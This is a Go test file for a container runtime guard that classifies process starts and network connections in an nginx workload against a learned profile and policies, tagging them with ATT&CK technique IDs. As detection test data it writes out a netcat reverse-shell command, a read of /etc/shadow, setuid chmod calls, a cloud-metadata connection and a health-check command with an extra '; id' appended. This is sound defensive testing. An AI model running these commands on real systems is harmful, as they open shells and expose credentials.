package guard

import (
	"net/netip"
	"strings"
	"testing"

	"redoubt.dev/redoubt/internal/policy"
	"redoubt.dev/redoubt/internal/profile"
	"redoubt.dev/redoubt/internal/redoubt"
)

const (
	nginxDigest   = redoubt.Digest("sha256:1111111111111111111111111111111111111111111111111111111111111111")
	netstatDigest = redoubt.Digest("sha256:2222222222222222222222222222222222222222222222222222222222222222")
	shDigest      = redoubt.Digest("sha256:3333333333333333333333333333333333333333333333333333333333333333")
	otherDigest   = redoubt.Digest("sha256:4444444444444444444444444444444444444444444444444444444444444444")
)

var web = redoubt.WorkloadRef{ID: "docker/nginx", Kind: redoubt.KindContainer, Name: "web", Container: "c0ffee000000", Image: "nginx:1.25"}

func program(path string, digest redoubt.Digest, parent *redoubt.Process, args ...string) *redoubt.Process {
	if args == nil {
		args = []string{path}
	}
	return &redoubt.Process{PID: 7, Path: path, Args: args, Parent: parent, File: &redoubt.File{Digest: digest, Origin: redoubt.OriginImage}}
}

func nginx() *redoubt.Process { return program("/usr/sbin/nginx", nginxDigest, nil) }

func started(p *redoubt.Process) *redoubt.Event {
	return &redoubt.Event{Kind: redoubt.EventExec, Workload: web, Node: "n1", Process: p, Count: 1}
}

func flow(kind redoubt.EventKind, p *redoubt.Process, addr string) *redoubt.Event {
	ev := &redoubt.Event{Kind: kind, Workload: web, Node: "n1", Process: p, Count: 1, Network: &redoubt.Connection{Proto: redoubt.TCP}}
	if kind == redoubt.EventConnect {
		ev.Network.Remote = netip.MustParseAddrPort(addr)
	} else {
		ev.Network.Local = netip.MustParseAddrPort(addr)
	}
	return ev
}

// known is the profile of an nginx that runs one shell script at its start.
func known(t testing.TB) *profile.Matcher {
	t.Helper()
	p := &profile.Profile{Workload: web.ID}
	for _, ev := range []*redoubt.Event{
		started(nginx()),
		started(program("/bin/sh", shDigest, program("/docker-entrypoint.sh", shDigest, nil), "/bin/sh", "-c", "ls")),
		flow(redoubt.EventListen, nginx(), "0.0.0.0:80"),
		flow(redoubt.EventConnect, nginx(), "10.0.0.5:5432"),
	} {
		e, err := profile.EntryFor(ev)
		if err != nil {
			t.Fatal(err)
		}
		p.Entries = append(p.Entries, e)
	}
	return profile.Compile(p)
}

func entered(p *redoubt.Process) *redoubt.Process {
	p.Entered = true
	return p
}

func rules(t testing.TB, body string) *policy.Set {
	t.Helper()
	ps, problems := policy.Parse([]byte("apiVersion: redoubt/v1\nkind: Policy\nmetadata: {name: p}\nspec:\n  rules:\n" + body))
	if problems != nil {
		t.Fatal(problems)
	}
	return policy.NewSet(ps)
}

// Each attack stands beside an honest neighbour that differs in one thing.
func TestR9_Decide(t *testing.T) {
	serving := Context{Listening: true}
	netstat := func() *redoubt.Process { return program("/usr/bin/netstat", netstatDigest, nginx()) }
	written := func(p *redoubt.Process, o redoubt.Origin) *redoubt.Process { p.File.Origin = o; return p }
	deny := rules(t, "    - {name: no-netstat, exec: {paths: ['*/netstat']}, effect: prevent}\n")
	host := started(netstat())
	host.Workload = redoubt.WorkloadRef{ID: "host/n1", Kind: redoubt.KindHost}
	health := Context{Listening: true, Health: []string{"CMD-SHELL", "curl -f http://localhost/ || exit 1"}}
	check := entered(program("/bin/sh", shDigest, nil, "/bin/sh", "-c", "curl -f http://localhost/ || exit 1"))
	for _, c := range []struct {
		name     string
		ev       *redoubt.Event
		state    profile.State
		set      *policy.Set
		ctx      Context
		effect   redoubt.Effect
		rule     string
		tech     string
		severity redoubt.Severity
	}{
		{"known program", started(nginx()), profile.Enforcing, nil, serving, "ignore", RuleProfile, "", 0},
		{"new program while learning", started(program("/usr/bin/worker", otherDigest, nginx())), profile.Learning, nil, serving, "ignore", RuleLearning, "", 0},
		{"new program, no state yet", started(program("/usr/bin/worker", otherDigest, nginx())), "", nil, serving, "ignore", RuleLearning, "", 0},
		{"netstat while learning and serving", started(netstat()), profile.Learning, nil, serving, "alert", RuleProfile, "T1049", redoubt.Medium},
		{"netstat in the start phase", started(netstat()), profile.Learning, nil, Context{Listening: true, Starting: true}, "ignore", RuleLearning, "", 0},
		{"netstat before it listens", started(netstat()), profile.Learning, nil, Context{}, "ignore", RuleLearning, "", 0},
		{"netstat on a host while learning", host, profile.Learning, nil, serving, "ignore", RuleLearning, "", 0},
		{"docker exec while learning", started(entered(program("/usr/bin/worker", otherDigest, nil))), profile.Learning, nil, Context{}, "alert", RuleProfile, "T1609", redoubt.Medium},
		{"docker exec netstat before it listens", started(entered(netstat())), profile.Learning, nil, Context{}, "alert", RuleProfile, "T1049", redoubt.Medium},
		{"child of docker exec", started(program("/usr/bin/worker", otherDigest, entered(program("/bin/sh", shDigest, nil)))), profile.Learning, nil, Context{}, "alert", RuleProfile, "T1204", redoubt.Medium},
		{"health check", started(check), profile.Learning, nil, health, "ignore", RuleLearning, "", 0},
		{"child of the health check", started(program("/usr/bin/curl", otherDigest, check)), profile.Learning, nil, health, "ignore", RuleLearning, "", 0},
		{"like the health check but more", started(entered(program("/bin/sh", shDigest, nil, "/bin/sh", "-c", "curl -f http://localhost/ || exit 1; id"))), profile.Learning, nil, health, "alert", RuleProfile, "T1059.004", redoubt.Medium},
		{"new program while observing", started(program("/usr/bin/worker", otherDigest, nginx())), profile.Observing, nil, serving, "alert", RuleProfile, "T1204", redoubt.Medium},
		{"new program while enforcing", started(program("/usr/bin/worker", otherDigest, nginx())), profile.Enforcing, nil, serving, "prevent", RuleProfile, "T1204", redoubt.Medium},
		{"new program on an enforced host", host, profile.Enforcing, nil, serving, "alert", RuleProfile, "T1049", redoubt.Medium},
		{"written program", started(written(program("/tmp/x", otherDigest, nginx()), redoubt.OriginWritten)), profile.Observing, nil, serving, "alert", RuleProfile, "T1105", redoubt.High},
		{"program in memory", started(written(program("/memfd:x", otherDigest, nginx()), redoubt.OriginMemory)), profile.Observing, nil, serving, "alert", RuleProfile, "T1620", redoubt.Critical},
		{"changed program", started(written(program("/usr/sbin/nginx", otherDigest, nil), redoubt.OriginWritten)), profile.Observing, nil, serving, "alert", RuleProfile, "T1554", redoubt.High},
		{"shell from nginx (R19)", started(program("/bin/sh", shDigest, nginx(), "/bin/sh", "-c", "ls")), profile.Observing, nil, serving, "alert", RuleProfile, "T1059.004", redoubt.High},
		{"shell from the entry script (R19)", started(program("/bin/sh", shDigest, program("/docker-entrypoint.sh", shDigest, nil), "/bin/sh", "-c", "ls")), profile.Observing, nil, serving, "ignore", RuleProfile, "", 0},
		{"renamed shell", started(program("/bin/innocent", shDigest, nginx())), profile.Observing, nil, serving, "alert", RuleProfile, "T1036", redoubt.High},
		{"busybox netstat", started(program("/bin/busybox", otherDigest, nginx(), "netstat", "-an")), profile.Learning, nil, serving, "alert", RuleProfile, "T1049", redoubt.Medium},
		{"busybox unknown applet", started(program("/bin/busybox", otherDigest, nginx(), "true")), profile.Learning, nil, serving, "ignore", RuleLearning, "", 0},
		{"known listener", flow(redoubt.EventListen, nginx(), "0.0.0.0:80"), profile.Observing, nil, serving, "ignore", RuleProfile, "", 0},
		{"new listener", flow(redoubt.EventListen, nginx(), "0.0.0.0:4444"), profile.Observing, nil, serving, "alert", RuleProfile, "T1571", redoubt.Medium},
		{"known peer", flow(redoubt.EventConnect, nginx(), "10.0.0.5:5432"), profile.Observing, nil, serving, "ignore", RuleProfile, "", 0},
		{"new public peer", flow(redoubt.EventConnect, nginx(), "203.0.113.9:443"), profile.Observing, nil, serving, "alert", RuleProfile, "T1071", redoubt.Medium},
		{"cloud metadata", flow(redoubt.EventConnect, nginx(), "169.254.169.254:80"), profile.Observing, nil, serving, "alert", RuleProfile, "T1552.005", redoubt.High},
		{"policy denies", started(netstat()), profile.Learning, deny, serving, "prevent", "policy/p/no-netstat", "T1049", redoubt.Medium},
		{"policy is about another program", started(program("/usr/bin/worker", otherDigest, nginx())), profile.Learning, deny, serving, "ignore", RuleLearning, "", 0},
		{"policy denies what the profile holds", started(nginx()), profile.Observing, rules(t, "    - {name: r, exec: {paths: [/usr/sbin/nginx]}, effect: block}\n"), serving, "block", "policy/p/r", "T1204", redoubt.High},
		{"policy allows what the profile does not hold", started(netstat()), profile.Enforcing, rules(t, "    - {name: r, exec: {paths: ['*/netstat']}, effect: ignore}\n"), serving, "ignore", "policy/p/r", "", 0},
		{"policy denies on a host", host, profile.Learning, deny, serving, "prevent", "policy/p/no-netstat", "T1049", redoubt.Medium},
		{"copy of a denied program", started(program("/tmp/x", netstatDigest, nginx())), profile.Learning, deny, Context{Names: []string{"/usr/bin/netstat"}}, "prevent", "policy/p/no-netstat", "T1204", redoubt.Medium},
		{"denied through the loader", started(program("/lib64/ld-linux-x86-64.so.2", otherDigest, nginx(), "ld.so", "--library-path", "/x", "/usr/bin/netstat")), profile.Learning, deny, Context{}, "prevent", "policy/p/no-netstat", "T1049", redoubt.Medium},
		{"start of an instance", &redoubt.Event{Kind: redoubt.EventStart, Workload: web}, profile.Enforcing, deny, serving, "", "", "", 0},
	} {
		t.Run(c.name, func(t *testing.T) {
			v := Decide(c.ev, known(t), c.state, c.set, c.ctx)
			if v.Effect != c.effect || v.Rule != c.rule || v.Technique != c.tech || v.Severity != c.severity {
				t.Errorf("%+v", v)
			}
			if c.effect != "" && v.Reason == "" {
				t.Error("no reason given")
			}
			if Learns(v) != (c.rule == RuleLearning) || Alarms(v) != (c.severity > 0) {
				t.Errorf("learns %v, alarms %v", Learns(v), Alarms(v))
			}
		})
	}
}

func TestReasonsNameWhatWasCompared(t *testing.T) {
	for want, ev := range map[string]*redoubt.Event{
		"/usr/sbin/nginx started /usr/bin/netstat, never seen before": started(program("/usr/bin/netstat", netstatDigest, nginx())),
		"other content": started(program("/usr/sbin/nginx", otherDigest, nil)),
		"parent":        started(program("/bin/sh", shDigest, nginx(), "/bin/sh", "-c", "ls")),
		"203.0.113.9":   flow(redoubt.EventConnect, nginx(), "203.0.113.9:443"),
	} {
		if v := Decide(ev, known(t), profile.Observing, nil, Context{}); !strings.Contains(v.Reason, want) {
			t.Errorf("reason %q does not hold %q", v.Reason, want)
		}
	}
}

func TestToolsNameKnownTechniques(t *testing.T) {
	if len(tools) < 60 {
		t.Errorf("%d rows", len(tools))
	}
	for i, row := range tools {
		if _, ok := redoubt.TechniqueByID(row.technique); !ok {
			t.Errorf("row %d (%s): technique %s is not in the table", i, row.names[0], row.technique)
		}
		if row.severity == 0 || row.does == "" {
			t.Errorf("row %d (%s) is incomplete", i, row.names[0])
		}
	}
}

func TestToolsLookAtArguments(t *testing.T) {
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"chmod", "4755", "/tmp/x"}, "T1548.001"},
		{[]string{"chmod", "u+s", "/tmp/x"}, "T1548.001"},
		{[]string{"chmod", "444", "/tmp/x"}, ""},
		{[]string{"chmod", "0644", "/tmp/x"}, ""},
		{[]string{"nc", "-e", "/bin/sh", "192.0.2.1", "9"}, "T1059.004"},
		{[]string{"nc", "-z", "192.0.2.1", "9"}, "T1095"},
		{[]string{"cat", "/etc/shadow"}, "T1003.008"},
		{[]string{"cat", "/etc/hosts"}, ""},
		{[]string{"python3.11", "x.py"}, "T1059.006"},
		{[]string{"idle"}, ""},
	} {
		got := ""
		if tool, _ := toolOf(program("/usr/bin/"+c.args[0], otherDigest, nil, c.args...)); tool != nil {
			got = tool.technique
		}
		if got != c.want {
			t.Errorf("%v: %q, want %q", c.args, got, c.want)
		}
	}
}
